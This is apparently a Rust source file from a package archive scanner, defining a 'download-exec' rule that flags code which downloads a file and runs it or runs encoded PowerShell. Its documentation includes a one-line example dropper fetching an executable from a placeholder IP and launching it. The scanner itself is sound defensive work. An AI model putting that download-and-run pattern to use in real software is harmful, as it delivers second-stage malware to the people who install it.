//! `download-exec`: code downloads a file and runs a program, or runs encoded PowerShell (found by the archive scanner, `src/scan/`).

use super::RuleMeta;
use crate::finding::{Confidence, RuleId, Severity};

/// Rule metadata.
pub const META: RuleMeta = RuleMeta {
    id: RuleId::DownloadExec,
    summary: "Code downloads a file and runs a program, or runs encoded PowerShell",
    severity: Severity::Critical,
    confidence: Confidence::High,
    docs: r#"# download-exec

## What it does
Reports a file that downloads to disk (`urlretrieve`, writing a response, `curl -o`, `Invoke-WebRequest`) and starts a program or makes a file executable; and PowerShell with encoded or hidden commands. Critical on install, import or start; high in modules when close together and pointing at a receiving host; medium otherwise.

In Python that parses, the flow decides: network data (from `requests`, `urllib`, `httpx`...) written to a file that a process then starts — as the program, or as what an interpreter (`python`, `sh`, `powershell`, `msiexec`...) is given, in an argument list or a command line — or handed to `exec`/`eval` (also through `threading.Thread(target=exec)`) is reported, wherever the variables, file handles and `with` blocks carry it. A download and a process with no such flow (a build script that fetches a source archive and runs `make`) drop to low. Shell, PowerShell and batch scripts that setup.py does not name, and files under CI directories, do not run on install or import and are medium at most.

## Why it matters
Second-stage droppers keep the package small and innocent-looking: the real payload is fetched and run after installation, often only on one operating system.

## Example
```python
urllib.request.urlretrieve("http://203.0.113.9/a.exe", p); os.startfile(p)
```

## How to fix
Do not install the release; allow a reviewed installer step with `[[allow]]`.
"#,
};
